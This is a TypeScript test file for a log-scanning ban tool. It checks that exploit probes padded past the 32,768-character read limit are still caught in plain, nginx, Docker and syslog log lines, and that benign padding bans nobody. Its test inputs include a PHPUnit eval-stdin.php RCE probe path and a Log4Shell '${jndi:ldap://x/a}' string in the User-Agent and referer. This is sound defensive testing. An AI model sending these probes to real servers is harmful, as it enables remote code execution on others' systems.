/**
 * Review of H46 as an attacker: a probe pushed past the 32,768 characters the rules read
 * (MAX_PATH_TESTED) must still count through the whole live pipeline, prefilter included (its
 * header shortcut and literal scans run before any rule, and an over-long field must not let them
 * skip the rules), in every wrapper the agent reads: a plain line, nginx's trailing
 * X-Forwarded-For field, Docker's json-file and syslog. And the same padding without a probe, kept
 * within what the rules read, bans nobody.
 */
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../../src/config/load.js';
import { PRESETS } from '../../../src/detect/presets.js';
import { Pipeline } from '../../../src/pipeline/pipeline.js';
import { rng } from '../../support/random.js';

const T = Date.UTC(2026, 11, 7, 0, 0, 0);
const CLIENT = '198.18.0.9';
const access = (target: string, ua: string, referer = '-'): string =>
  `${CLIENT} - - [07/Dec/2026:00:00:00 +0000] "GET ${target} HTTP/1.1" 404 12 "${referer}" "${ua}"`;
const wrappers: Record<string, (line: string) => string> = {
  plain: (l) => l,
  'nginx trailing XFF': (l) => `${l} "-"`,
  'docker json-file': (l) => JSON.stringify({ log: `${l}\n`, stream: 'stdout', time: '2026-12-07T00:00:00.000000000Z' }),
  syslog: (l) => `<134>Dec  7 00:00:00 web apache: ${l}`,
};
const fill = (unit: string, n: number): string => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);

/** The rules under which CLIENT is banned after one line fed to a fresh live pipeline. */
function bannedBy(rules: string, line: string): string[] {
  const config = loadConfig({ env: { BANHAMMER_RULES: rules }, hostname: 'unit' });
  const p = new Pipeline({ config, mode: 'live' });
  const ev = p.parse(line);
  expect(ev, `parsed: ${line.slice(0, 80)}`).not.toBeNull();
  p.observe(ev!, T, undefined, undefined, line);
  return p.book.active(T).filter((b) => b.ip === CLIENT).map((b) => b.rule);
}

describe('a probe padded past what the rules read, through the live pipeline (review H46)', () => {
  const r = rng(4646);
  const pads = () => fill(['a', 'abc/', 'Mozilla ', '%41'][Math.floor(r() * 4)]!, 33_000 + Math.floor(r() * 4_000));

  for (const [name, wrap] of Object.entries(wrappers)) {
    it(`${name}: the default rules ban a padded probe in the target, the User-Agent or the referer`, () => {
      for (let i = 0; i < 3; i++) {
        const pad = pads();
        expect(bannedBy('forbidden,exploit-probes', wrap(access(`/${pad}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`, 'Mozilla/5.0')))).toContain('exploit-probes');
        expect(bannedBy('forbidden,exploit-probes', wrap(access('/index.html', `Mozilla/5.0 ${pad} \${jndi:ldap://x/a}`)))).toContain('exploit-probes');
        expect(bannedBy('forbidden,exploit-probes', wrap(access('/index.html', 'Mozilla/5.0', `https://x/${pad}\${jndi:ldap://x/a}`)))).toContain('exploit-probes');
      }
    });

    it(`${name}: the same padding within what the rules read bans nobody, with every preset on`, () => {
      const every = Object.keys(PRESETS).join(',');
      const pad = fill('a', 30_000);
      expect(bannedBy(every, wrap(access(`/${pad}`, `Mozilla/5.0 ${pad}`, `https://x/${pad}`)))).toEqual([]);
    });
  }
});
